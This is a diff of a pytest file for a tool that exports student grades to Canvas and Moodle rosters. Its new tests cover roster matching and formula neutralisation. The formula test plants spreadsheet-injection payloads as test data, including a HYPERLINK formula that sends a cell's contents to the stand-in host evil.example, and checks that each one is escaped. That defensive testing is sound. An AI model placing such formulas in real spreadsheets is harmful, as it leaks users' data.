@@ -69,16 +69,23 @@ def test_canvas_import_has_canvas_columns_and_points_row(grades, tmp_path):
 
 
 def test_canvas_new_assignment_column_and_login_match(grades, tmp_path):
-    text = CANVAS_EXPORT.replace("jsmith", "klee")
+    text = CANVAS_EXPORT.replace("rroe", "klee")
     result = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, text, "gradebook.csv"), "--assignment", "Homework 1")
     assert result.returncode == 0, result.stderr
     rows = list(csv.DictReader(io.StringIO((grades / "canvas.csv").read_text(encoding="utf-8"))))
     assert list(rows[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 1"]
     assert rows[0]["Homework 1"] == "25"  # points possible: the kit's own when the column is new
     by_id = {row["ID"]: row["Homework 1"] for row in rows[1:]}
-    # smithjohn_123 names Canvas ID 123 and the klee folder its SIS Login ID: the same roster row, so the second is left out
-    assert by_id == {"123": "25", "777": "25", "888": ""}  # klee comes first (by name), so smithjohn_123's 22 is left out
+    assert by_id == {"123": "22", "777": "25", "888": "25"}  # the klee folder matches Roe's SIS Login ID
+
+
+def test_two_reports_naming_one_roster_row_refuse_the_export(grades, tmp_path):
+    """smithjohn_123 names Canvas ID 123 and the klee folder its SIS Login ID: which one is the student's is not guessed."""
+    text = CANVAS_EXPORT.replace("jsmith", "klee")
+    result = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, text, "gradebook.csv"), "--assignment", "Homework 1")
+    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1
     assert "smithjohn_123 (22/25) names the same roster row as klee" in result.stderr
+    assert not (grades / "canvas.csv").exists()
 
 
 def test_the_roster_is_never_overwritten(grades, tmp_path):
@@ -111,3 +118,31 @@ def test_a_roster_of_the_wrong_kind_is_one_line(grades, tmp_path, platform, text
     result = coopkit("export", platform, grades, "--roster", roster(tmp_path, text, "r.csv"))
     assert result.returncode == 2 and words in result.stderr and len(result.stderr.strip().splitlines()) == 1
     assert "Download" in result.stderr or "Export" in result.stderr
+
+
+def test_a_name_not_in_the_lms_naming_never_matches_by_its_last_part(tmp_path):
+    """F1: "alice_111_222_bob_999" is no Canvas name: its "999" never puts Alice's grade on Bob's row."""
+    out = tmp_path / "grades"
+    out.mkdir()
+    (out / "a.json").write_text(json.dumps(fake_report("alice_111_222_bob_999", 25)))
+    (out / "grades.csv").write_text("student\n")
+    result = coopkit("export", "canvas", out, "--roster", roster(tmp_path, CANVAS_EXPORT.replace("777", "999"), "g.csv"), "--out", tmp_path / "c.csv")
+    assert result.returncode == 0, result.stderr
+    assert all(row["coop (5501)"] == "" for row in csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8")) if row["ID"])
+    assert "alice_111_222_bob_999 (25/25) matches no roster row" in result.stderr
+
+
+def test_lms_exports_neutralise_formulas_in_roster_cells(grades, tmp_path):
+    """F8: cells other than identifiers and the grade cannot start a formula; identifiers and dates stay as they are."""
+    text = MOODLE_WORKSHEET.replace("Jane Doe", '"=HYPERLINK(""https://evil.example/?""&A1,""Jane"")"').replace("Kim Lee", "@SUM(1+1)")
+    out = tmp_path / "moodle.csv"
+    result = coopkit("export", "moodle", grades, "--roster", roster(tmp_path, text, "w.csv"), "--out", out)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert [row["Full name"][:2] for row in rows[:2]] == ["'=", "'@"]
+    assert rows[0]["Identifier"] == "Participant 4242" and rows[0]["Grade"] == "80.00" and rows[0]["Last modified (grade)"] == "-"
+    canvas = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, CANVAS_EXPORT.replace('"Smith, John"', "=cmd()").replace("CS 101", "+S1"), "g.csv"),
+                     "--out", tmp_path / "c.csv")
+    assert canvas.returncode == 0, canvas.stderr
+    rows = list(csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8")))
+    assert (rows[1]["Student"], rows[1]["Section"], rows[1]["ID"]) == ("'=cmd()", "'+S1", "123")
